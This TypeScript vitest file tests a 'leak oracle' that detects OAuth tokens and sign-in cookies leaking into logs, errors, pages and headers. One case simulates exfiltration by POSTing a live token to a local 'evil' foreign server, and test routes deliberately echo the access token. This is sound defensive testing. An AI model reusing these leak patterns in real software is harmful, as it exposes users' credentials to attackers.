import { startForeignServer } from '@latchkey/testing'
import { describe, expect, it, onTestFinished } from 'vitest'
import { expectNoLeak, type Harness, startHarness } from './harness.fixture.ts'

/** What the harness would hold had this secret leaked as well. */
type Leak = (secret: string) => Partial<Harness> | Promise<Partial<Harness>>

const leaks: readonly { readonly sink: string; readonly leak: Leak }[] = [
  {
    sink: 'a log line',
    leak: (secret) => ({ logged: [{ level: 'debug', fields: { deep: [{ secret }] }, message: '' }] }),
  },
  { sink: 'the cause of an error', leak: (cause) => ({ errors: [new Error('', { cause })] }) },
  {
    sink: 'a page, in base64',
    leak: (secret) => ({ sent: [`<p>${Buffer.from(secret).toString('base64url')}</p>`] }),
  },
  {
    sink: 'a request to a foreign origin',
    leak: async (secret) => {
      const evil = await startForeignServer()
      onTestFinished(() => evil.close())
      await fetch(evil.origin, { method: 'POST', body: secret })
      return { evil }
    },
  },
]

describe('the leak oracle', () => {
  it.each(leaks)('finds a token in $sink', async ({ leak }) => {
    const harness = await startHarness()
    await harness.signedIn()
    const { accessToken = '', refreshToken = '' } = harness.as.liveFor('user-ada') ?? {}
    expectNoLeak(harness)
    for (const secret of [accessToken, refreshToken]) {
      expect(secret).not.toBe('')
      const leaking = { ...harness, ...(await leak(secret)) }
      expect(() => expectNoLeak(leaking)).toThrow('secrets')
    }
  })

  it('finds the sign-in cookie in a log line', async () => {
    const harness = await startHarness()
    const browser = await harness.signedIn()
    const [, secret = ''] =
      browser.cookies.all.find(({ name }) => name.startsWith('latchkey'))?.value.split('.') ?? []
    expect(secret).toHaveLength(43)
    const leaking = { ...harness, logged: [{ level: 'debug', fields: {}, message: `got ${secret}` }] }
    expect(() => expectNoLeak(leaking)).toThrow('cookies in the log')
  })

  it.each(['/leaks/page', '/leaks/header', '/leaks/error'])(
    'reads all that the app really sends: %s',
    async (path) => {
      const harness = await startHarness({
        routes: (app) => {
          app.get('/leaks/page', async (req, res) => void res.send((await req.oauth.accessToken()).value))
          app.get('/leaks/header', async (req, res) => {
            res.set('x-token', (await req.oauth.accessToken()).value).end()
          })
          app.get('/leaks/error', async (req) => {
            throw new Error((await req.oauth.accessToken()).value)
          })
        },
      })
      const browser = await harness.signedIn()
      await browser.get(harness.origin + path)
      const { sent, errors } = harness
      // Taken out again, since the end of the test looks there too.
      const leaking = {
        ...harness,
        sent: (sent as string[]).splice(0),
        errors: (errors as unknown[]).splice(0),
      }
      expect(() => expectNoLeak(leaking)).toThrow('secrets')
    },
  )
})
